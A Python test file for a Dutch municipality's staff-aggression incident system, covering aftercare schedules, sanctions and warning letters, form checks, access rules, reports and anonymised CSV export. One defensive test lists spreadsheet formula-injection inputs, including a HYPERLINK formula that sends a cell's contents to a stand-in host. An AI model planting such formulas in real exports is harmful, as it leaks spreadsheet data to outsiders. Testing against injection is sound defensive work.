"""The pure rules behind incident records: the aftercare schedule, the sanctions table and the
letter, the form's checks, who may read a record, the report figures, anonymising."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from dispatcher.incidents.access import Access, Reader, access_to
from dispatcher.incidents.registration import check_registration
from dispatcher.incidents.reports import CSV_COLUMNS, Quarter, Response, Row, build_report, response_of, to_csv
from dispatcher.incidents.retention import anonymised_incident, anonymised_timeline
from dispatcher.incidents.rules import (
    aftercare_plan,
    ban_ends,
    class_of,
    inspection_plan,
    is_serious,
    renewed_offer,
    suggest_sanction,
    warning_letter,
)
from escalation.model import DEFAULT_AFTERCARE, Records
from gateway.records.views import Registration
from gateway.web.i18n import BOARD, TIMELINE

AMS = ZoneInfo("Europe/Amsterdam")
MONDAY_11 = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
SCHEDULE = [(step.after, step.task) for step in DEFAULT_AFTERCARE]


# ---- aftercare ------------------------------------------------------------------------------------


def test_aftercare_is_due_at_the_end_of_each_day_of_the_schedule() -> None:
    tasks = aftercare_plan(SCHEDULE, MONDAY_11, tz=AMS)
    due = [(t.kind, t.due_at.astimezone(AMS).strftime("%a %d-%m %H:%M")) for t in tasks]
    assert due == [("aftercare", "Mon 23-11 23:59"), ("aftercare", "Tue 24-11 23:59"),
                   ("aftercare_72h", "Thu 26-11 11:00"),  # the workbook's "within 72 hours", to the hour
                   ("aftercare", "Sat 28-11 23:59"), ("aftercare", "Mon 07-12 23:59"),
                   ("aftercare", "Mon 21-12 23:59"), ("aftercare", "Mon 04-01 23:59")]
    assert {t.subject for t in tasks} == {None}, "the person affected"


def test_a_colleague_or_witness_gets_the_same_talks_under_their_name() -> None:
    tasks = aftercare_plan(SCHEDULE[:2], MONDAY_11, tz=AMS, subject="Jan Jansen")
    assert [(t.kind, t.subject) for t in tasks] == [("aftercare", "Jan Jansen"), ("aftercare", "Jan Jansen"),
                                                    ("aftercare_72h", "Jan Jansen")]


def test_declined_aftercare_is_offered_again_weeks_later() -> None:
    offer = renewed_offer(MONDAY_11, "Jan Jansen")
    assert (offer.kind, offer.subject, offer.due_at) == ("renewed_offer", "Jan Jansen", MONDAY_11 + timedelta(weeks=3))


def test_an_incident_late_in_the_evening_still_counts_its_own_day() -> None:
    late = datetime(2026, 3, 28, 22, 30, tzinfo=UTC)  # 23:30 local, the night the clocks go forward
    [same_day, next_day, _] = aftercare_plan(SCHEDULE[:2], late, tz=AMS)
    assert same_day.due_at.astimezone(AMS) == datetime(2026, 3, 28, 23, 59, tzinfo=AMS)
    assert next_day.due_at.astimezone(AMS) == datetime(2026, 3, 29, 23, 59, tzinfo=AMS)  # summer time by then


@pytest.mark.parametrize(("facts", "serious"), [
    ({"hospital_admission": True}, True), ({"death": True}, True), ({"lasting_harm": True}, True),
    ({"hospital_admission": False, "death": None, "lasting_harm": False}, False), ({}, False),
])
def test_art_6_4_applies_to_death_hospital_admission_and_lasting_harm(facts: dict[str, bool], serious: bool) -> None:
    values = {"hospital_admission": None, "death": None, "lasting_harm": None, **facts}
    assert is_serious(**values) is serious


def test_the_arbeidsinspectie_duty_is_three_tasks_two_of_them_at_once() -> None:
    registered = MONDAY_11 + timedelta(days=2)
    tasks = inspection_plan(registered)
    assert [(t.kind, t.due_at) for t in tasks] == [("inform_hrm", registered), ("ai_phone", registered),
                                                   ("ai_written", registered + timedelta(days=1))]
    assert all("Nederlandse Arbeidsinspectie" in t.title for t in tasks[1:])
    assert "HRM" in tasks[0].title and "Afdelingshoofd" in tasks[0].title
    assert not any("SZW" in t.title for t in tasks)


def test_the_schedule_is_configurable_in_the_agreement_file() -> None:
    records = Records.model_validate({"aftercare": [{"after": 0, "task": "Bellen"}, {"after": "3d", "task": "Langs"}],
                                      "retention": "2y"})
    assert [(s.after, s.task) for s in records.aftercare] == [(0, "Bellen"), (3 * 86400, "Langs")]
    assert records.retention == 2 * 365 * 86400
    assert len(Records().aftercare) == 6, "same day, next day, first week, 2, 4 and 6 weeks by default"


# ---- sanctions --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("forms", "first", "repeat"), [
    (["verbaal_geweld"], "warning", "ban_3"),
    (["discriminatie"], "warning", "ban_3"),
    (["intimidatie"], "ban_6", "ban_12"),
    (["fysiek_zaakgericht"], "ban_6", "ban_12"),
    (["fysiek_persoonsgericht"], "ban_12", "ban_24"),
    (["verbaal_geweld", "fysiek_persoonsgericht", "intimidatie"], "ban_12", "ban_24"),  # the heaviest decides
])
def test_the_sanctions_table(forms: list[str], first: str, repeat: str) -> None:
    once, again = suggest_sanction(forms, repeat=False), suggest_sanction(forms, repeat=True)
    assert once is not None and again is not None
    assert (once.kind, again.kind) == (first, repeat)
    assert again.repeat and "herhaling" in again.reason


def test_no_form_of_aggression_no_sanction() -> None:
    assert suggest_sanction([], repeat=True) is None


@pytest.mark.parametrize(("kind", "starts", "ends"), [
    ("ban_3", date(2026, 1, 15), date(2026, 4, 14)),
    ("ban_6", date(2026, 8, 31), date(2027, 2, 27)),  # no 31 February: the ban ends the day before the 28th
    ("ban_24", date(2024, 2, 29), date(2026, 2, 27)),
    ("warning", date(2026, 1, 15), None),
])
def test_a_ban_ends_the_day_before_the_same_date_months_on(kind: str, starts: date, ends: date | None) -> None:
    assert ban_ends(kind, starts) == ends


def test_the_warning_letter_follows_the_protocols_example() -> None:
    letter = warning_letter(organisation="Gemeente Wormerland", offender="H. de Boer", address="Dorpsstraat 1",
                            incident_on=date(2026, 11, 20), contact_kind="counter", kind="warning",
                            starts_on=date(2026, 11, 23), ends_on=None, today=date(2026, 11, 23),
                            signed_by="C. Coördinator", reference="incident 7")
    assert "Onderwerp: Waarschuwing" in letter
    assert "Op 20-11-2026 heeft u Gemeente Wormerland bezocht. Dit contact is niet correct verlopen." in letter
    assert "aanleiding zijn u de toegang tot ons gebouw te ontzeggen" in letter
    assert letter.splitlines()[2:4] == ["H. de Boer", "Dorpsstraat 1"]
    # The afdelingshoofd signs on behalf of the board (art. 6 "Sanctiebeleid": "namens").
    assert letter.splitlines()[-4:] == ["namens de directie van Gemeente Wormerland,", "", "C. Coördinator",
                                        "afdelingshoofd"]


@pytest.mark.parametrize(("kind", "words"), [
    ("conversation", "Wij nodigen u daarom uit voor een gesprek"),
    ("written_only", "vanaf 23-11-2026 alleen nog schriftelijk contact met ons kunt opnemen"),
])
def test_the_protocols_other_measures_have_their_letter(kind: str, words: str) -> None:
    letter = warning_letter(organisation="Gemeente Wormerland", offender="H. de Boer", address=None,
                            incident_on=date(2026, 11, 20), contact_kind="phone", kind=kind,
                            starts_on=date(2026, 11, 23), ends_on=ban_ends(kind, date(2026, 11, 23)),
                            today=date(2026, 11, 23), signed_by="M. van Dijk", reference="incident 7")
    assert words in letter and "ontzeggen voor" not in letter
    assert suggest_sanction(["verbaal_geweld"], repeat=False) is not None


@pytest.mark.parametrize(("forms", "first", "repeat"), [
    (["stalking"], "ban_6", "ban_12"),
    (["seksuele_intimidatie"], "ban_6", "ban_12"),
    (["vernieling"], "ban_6", "ban_12"),
    (["wapen"], "ban_12", "ban_24"),
])
def test_the_protocols_other_forms_take_their_row_of_the_table(forms: list[str], first: str, repeat: str) -> None:
    assert suggest_sanction(forms, repeat=False).kind == first  # type: ignore[union-attr]
    assert suggest_sanction(forms, repeat=True).kind == repeat  # type: ignore[union-attr]


@pytest.mark.parametrize(("forms", "abcd"), [
    (["verbaal_geweld"], "C"), (["verbaal_geweld", "discriminatie"], "C"), (["intimidatie"], "D"),
    (["verbaal_geweld", "stalking"], "D"), (["wapen"], "D"), ([], None),
])
def test_class_c_is_verbal_and_d_physical_threats_and_intimidation(forms: list[str], abcd: str | None) -> None:
    assert class_of(forms) == abcd


# ---- the form -------------------------------------------------------------------------------------------


def check(raw: dict[str, object], *, complete: bool = False, current: dict[str, object] | None = None):  # type: ignore[no-untyped-def]
    return check_registration(raw, current=current or {}, complete=complete, now=MONDAY_11, tz=AMS,
                              people={"sanne": "Sanne de Jong"}, sites={"stadhuis": "Stadhuis"})


def test_form_values_are_converted_as_a_dutch_coordinator_types_them() -> None:
    checked = check({"occurred_at": "2026-11-20T14:05", "damage_personal_amount": "1.250,50",
                     "hospital_admission": "nee", "aggression_forms": ["intimidatie", "verbaal_geweld"],
                     "affected_person_id": "sanne", "site_id": "stadhuis", "abcd_class": "d"})
    assert checked.ok, checked.errors
    assert checked.changes["occurred_at"] == datetime(2026, 11, 20, 14, 5, tzinfo=AMS)
    assert checked.changes["damage_personal_amount"] == Decimal("1250.50")
    assert checked.changes["hospital_admission"] is False
    assert checked.changes["aggression_forms"] == ["verbaal_geweld", "intimidatie"]
    assert (checked.changes["person_affected"], checked.changes["site_name"]) == ("Sanne de Jong", "Stadhuis")
    assert checked.changes["abcd_class"] == "D"


@pytest.mark.parametrize(("raw", "errors"), [
    ({"abcd_class": "E"}, {"abcd_class": "not_a_choice"}),
    ({"aggression_forms": ["schoppen"]}, {"aggression_forms": "not_a_choice"}),
    ({"abcd_class": "A", "aggression_forms": ["verbaal_geweld"]}, {"abcd_class": "forms_need_c_or_d"}),
    ({"damage_employer_amount": "-1"}, {"damage_employer_amount": "negative"}),
    ({"damage_employer_amount": "12,345"}, {"damage_employer_amount": "not_an_amount"}),
    ({"damage_employer_amount": "veel"}, {"damage_employer_amount": "not_an_amount"}),
    ({"occurred_at": "2026-11-24T09:00"}, {"occurred_at": "in_future"}),
    ({"occurred_at": "gisteren"}, {"occurred_at": "not_a_time"}),
    ({"police_report_date": "2026-11-20"}, {"police_report": "report_not_done"}),
    ({"police_report": "misschien"}, {"police_report": "not_yes_no"}),
    ({"affected_person_id": "nobody"}, {"affected_person_id": "unknown_person"}),
    ({"description": "x" * 5001}, {"description": "too_long"}),
    # a threat is aggression, not a near-miss
    ({"near_miss": True, "aggression_forms": ["intimidatie"]}, {"near_miss": "threat_is_aggression"}),
    # ABCD and the forms agree
    ({"abcd_class": "C", "aggression_forms": ["verbaal_geweld", "intimidatie"]}, {"abcd_class": "class_c_is_verbal"}),
    ({"abcd_class": "D", "aggression_forms": ["discriminatie"]}, {"abcd_class": "class_d_not_verbal"}),
    ({"offender_relation": "buurman"}, {"offender_relation": "not_a_choice"}),
    ({"sanction": "ban_100"}, {"sanction": "not_a_choice"}),
    ({"colleagues_involved": ["nobody"]}, {"colleagues_involved": "unknown_person"}),
    ({"colleagues_involved": ["sanne"] * 51}, {"colleagues_involved": "not_a_choice"}),
    ({"employee_signed_on": "2026-12-01"}, {"employee_signed_on": "in_future"}),
    ({"lead_signed_name": "x" * 201}, {"lead_signed_name": "too_long"}),
])
def test_wrong_values_are_named_per_field(raw: dict[str, object], errors: dict[str, str]) -> None:
    assert check(raw).errors == errors


def test_completing_asks_for_class_description_forms_and_a_place() -> None:
    assert check({"abcd_class": "C"}, complete=True).errors == {
        "description": "required", "aggression_forms": "forms_needed", "location": "required"}
    done = check({"abcd_class": "B", "description": "Kritiek op de regels."}, complete=True,
                 current={"location": "Balie 2"})
    assert done.ok, "class B needs no form of aggression"


def test_class_d_asks_whether_a_police_report_was_made() -> None:
    base = {"abcd_class": "D", "aggression_forms": ["fysiek_persoonsgericht"], "description": "Geslagen.",
            "location": "Balie 1"}
    assert check(base, complete=True).errors == {"police_report": "aangifte_question"}
    assert check({**base, "police_report": "nee"}, complete=True).ok


def test_the_whole_registration_form_is_taken() -> None:
    checked = check({"injured": "ja", "injury": "Blauw oog", "lasting_harm": "nee", "offender_relation": "client",
                     "damage_personal": "ja", "damage_personal_description": "Bril", "damage_employer": "nee",
                     "repeat_offender": "ja", "sanction": "other", "sanction_other": "Huisverbod van de wethouder",
                     "employee_signed_name": "Sanne de Jong", "employee_signed_on": "2026-11-23",
                     "lead_signed_name": "Marieke van Dijk", "lead_signed_on": "2026-11-23",
                     "colleagues_involved": ["sanne", "sanne"], "team_meeting_on": "2026-12-03"})
    assert checked.ok, checked.errors
    assert checked.changes["colleagues_involved"] == ["sanne"]
    assert checked.changes["repeat_offender"] is True and checked.changes["sanction"] == "other"
    assert checked.changes["team_meeting_on"] == date(2026, 12, 3), "a meeting may lie ahead"
    assert check({"sanction": "other", "abcd_class": "B", "description": "x", "location": "y"},
                 complete=True).errors == {"sanction_other": "required"}


# ---- access -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("reader", "expected"), [
    (Reader("coco", frozenset({"coordinator"}), None), Access.FULL),
    (Reader("marieke", frozenset({"employee"}), "marieke"), Access.INVOLVED),  # Sanne's team lead
    (Reader("sanne", frozenset({"employee"}), "sanne"), Access.INVOLVED),  # the person affected
    (Reader("melder", frozenset({"employee"}), "eva"), Access.INVOLVED),  # the one who reported it
    (Reader("ria", frozenset({"operator"}), None), Access.ALARM),
    (Reader("jan", frozenset({"employee", "responder"}), "jan"), Access.NONE),
    (Reader("beheer", frozenset({"admin"}), None), Access.NONE),
])
def test_who_may_read_a_record(reader: Reader, expected: Access) -> None:
    leads = {"sanne": ["marieke"]}
    assert access_to(reader, affected_person_id="sanne", reported_by_user="melder", from_alarm=True,
                     leads_of=lambda pid: leads.get(pid, [])) is expected


def test_the_control_room_does_not_see_reports_without_an_alarm() -> None:
    ria = Reader("ria", frozenset({"operator"}), None)
    assert access_to(ria, affected_person_id="sanne", reported_by_user="sanne", from_alarm=False,
                     leads_of=lambda _: []) is Access.NONE


# ---- reports ------------------------------------------------------------------------------------------------


def entry(seconds: float, kind: str, **data: object) -> tuple[datetime, str, dict[str, object]]:
    return MONDAY_11 + timedelta(seconds=seconds), kind, dict(data)


def test_response_figures_come_from_the_timeline() -> None:
    response = response_of([
        entry(0, "alarm_raised"), entry(0, "step_started", step="collega", code=None),
        entry(20, "step_started", step="bhv", code="4"), entry(31, "accepted", recipient="Jan"),
        entry(45, "accepted", recipient="Fatima"), entry(95, "on_scene", recipient="Jan"),
        entry(100, "notified", recipient="Politie", outside=True),
    ])
    assert response == Response(first_accept_s=31, on_scene_s=95, bhv=True, police=True, unanswered=False,
                                answered_s=31)
    assert response_of([entry(0, "note", text="geen alarm")]) is None
    unanswered = response_of([entry(0, "alarm_raised"), entry(80, "repeated", step="bhv", round=2)])
    assert unanswered is not None and unanswered.unanswered and unanswered.first_accept_s is None


def row(n: int, when: datetime, **extra: object) -> Row:
    values: dict[str, object] = {
        "id": n, "occurred_at": when, "site": "Stadhuis", "location": "Balie 1", "source": "alarm",
        "near_miss": False, "kind": "panic", "contact_kind": "counter", "abcd_class": "C",
        "forms": ("verbaal_geweld",), "outcome": "resolved", "drill": False, "injury": False,
        "hospital_admission": False, "police_report": None, "sanction": None,
        "response": Response(first_accept_s=10 * n, on_scene_s=None)}
    values.update(extra)
    return Row(**values)  # type: ignore[arg-type]


def test_the_report_counts_heat_map_and_percentiles() -> None:
    rows = [row(n, MONDAY_11 + timedelta(minutes=n)) for n in range(1, 11)]  # Monday 11:xx local
    rows.append(row(11, MONDAY_11 + timedelta(days=1), drill=True))  # a drill counts nowhere
    rows.append(row(12, MONDAY_11 + timedelta(days=2), outcome="false_alarm", abcd_class="A", forms=()))
    rows.append(row(13, MONDAY_11 + timedelta(days=3), outcome="cancelled", abcd_class=None, forms=()))
    rows.append(row(14, MONDAY_11 + timedelta(days=2), abcd_class="B", forms=()))
    report = build_report(rows, tz=AMS, quarters=[Quarter(2026, 3), Quarter(2026, 4)])
    assert report.total == 11, "incidents only: a false or cancelled alarm is not one"
    assert (report.false_alarms, report.cancelled) == (1, 1), "counted apart, for the alarm system"
    assert report.heatmap[0][11] == 10 and report.heatmap[2][11] == 1 and report.peak == (0, 11, 10)
    assert report.response.alarms == 11, "the false and the cancelled alarm are not responses"
    assert (report.response.first_accept.median, report.response.first_accept.p90) == (60, 100)
    assert dict(report.by_abcd) == {"A": 0, "B": 1, "C": 10, "D": 0}
    assert dict(report.quarters)["2026-Q4"]["total"] == 11 and dict(report.quarters)["2026-Q3"]["total"] == 0
    assert report.by_location == [("Balie 1 (Stadhuis)", 11)]


def test_the_csv_export_has_no_names_or_descriptions() -> None:
    text = to_csv([row(1, MONDAY_11)], tz=AMS, places={"Balie 1"})
    header, line = text.strip().splitlines()
    assert header.split(",") == list(CSV_COLUMNS)
    assert line.startswith("1,2026-11-23,1,11,2026-Q4,Stadhuis,Balie 1,alarm,0,panic,counter,C,1,0,0,0,0")
    assert not {"description", "person_affected", "offenders", "reporter"} & set(CSV_COLUMNS)


def test_the_csv_export_carries_no_typed_place_or_kind() -> None:
    """A location someone typed (a report's "where", a field worker's whereabouts) may be an
    address; an imported kind is free text too. Only the agreement file's places and code4's
    own kinds go out."""
    rows = [row(1, MONDAY_11, location="Dorpsstraat 12, bij Henk de Boer", kind="Henk de Boer"),
            row(2, MONDAY_11, location="Balie 1, Publiekshal, Stadhuis", kind="checkin_missed")]
    [_, typed, known] = csv.reader(io.StringIO(to_csv(rows, tz=AMS, places={"Balie 1, Publiekshal, Stadhuis"})))
    assert (typed[CSV_COLUMNS.index("location")], typed[CSV_COLUMNS.index("kind")]) == ("", "other")
    assert (known[CSV_COLUMNS.index("location")], known[CSV_COLUMNS.index("kind")]) == (
        "Balie 1, Publiekshal, Stadhuis", "checkin_missed")


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+31 6 1234", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1", "  =1+1"])
def test_csv_text_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    place = f"{text}, Publiekshal"
    [_, line] = csv.reader(io.StringIO(to_csv([row(1, MONDAY_11, site=text, location=place)], tz=AMS,
                                              places={place})))
    assert line[CSV_COLUMNS.index("site")] == f"'{text}"
    assert line[CSV_COLUMNS.index("location")] == f"'{place}"


def test_csv_numbers_stay_numbers_also_when_negative() -> None:
    # An imported timeline may put the first accept before the alarm: a number, not a formula.
    early = row(1, MONDAY_11, site="Stadhuis - Oost", response=Response(first_accept_s=-5, on_scene_s=30))
    [_, line] = csv.reader(io.StringIO(to_csv([early], tz=AMS, places=set())))
    assert line[CSV_COLUMNS.index("first_accept_s")] == "-5" and line[CSV_COLUMNS.index("on_scene_s")] == "30"
    assert line[CSV_COLUMNS.index("site")] == "Stadhuis - Oost", "only a cell's start can make it a formula"


def test_quarters() -> None:
    q = Quarter.parse("2026-K1")
    assert (q.label, q.start, q.last_day, q.previous().label, q.previous(4).label) == (
        "2026-Q1", date(2026, 1, 1), date(2026, 3, 31), "2025-Q4", "2025-Q1")
    with pytest.raises(ValueError, match="no quarter"):
        Quarter.parse("2026-Q5")


# ---- anonymising -------------------------------------------------------------------------------------------


def test_anonymising_keeps_what_the_reports_count_and_drops_who() -> None:
    changes = anonymised_incident({"site_id": "stadhuis", "location": "Balie 1", "injury": "Gebroken pols"})
    assert changes["location"] == "Balie 1" and changes["injury"] == "(geanonimiseerd)"
    assert changes["description"] is None and changes["person_affected"] is None and changes["position"] is None
    assert anonymised_incident({"site_id": None, "location": "Dorpsstraat 12"})["location"] is None
    # What Bijlage 10 and the debrief add that names or describes someone goes too.
    for name in ("employee_signed_name", "lead_signed_name", "colleagues_involved", "damage_personal_description",
                 "sanction_other", "debrief_what", "debrief_went_well", "debrief_change", "debrief_actions"):
        assert name in changes and changes[name] is None, name
    data = anonymised_timeline({"recipient": "Jan de Vries", "role": 1, "step": "bhv", "code": "4",
                                "text": "Jan belde", "where": "Dorpsstraat 12"})
    assert data == {"recipient": "anoniem", "role": 1, "step": "bhv", "code": "4"}


# ---- words ----------------------------------------------------------------------------------------------------


def test_every_screen_word_exists_in_dutch_and_english() -> None:
    assert set(BOARD["nl"]) == set(BOARD["en"])
    assert set(TIMELINE["nl"]) == set(TIMELINE["en"])


def test_every_timeline_kind_has_words() -> None:
    from dispatcher.core.effects import TIMELINE_KINDS

    assert set(TIMELINE["nl"]) == TIMELINE_KINDS


def test_the_record_view_shows_every_field_of_the_form() -> None:
    from dispatcher.incidents.registration import FIELDS

    assert set(FIELDS) <= set(Registration.model_fields)
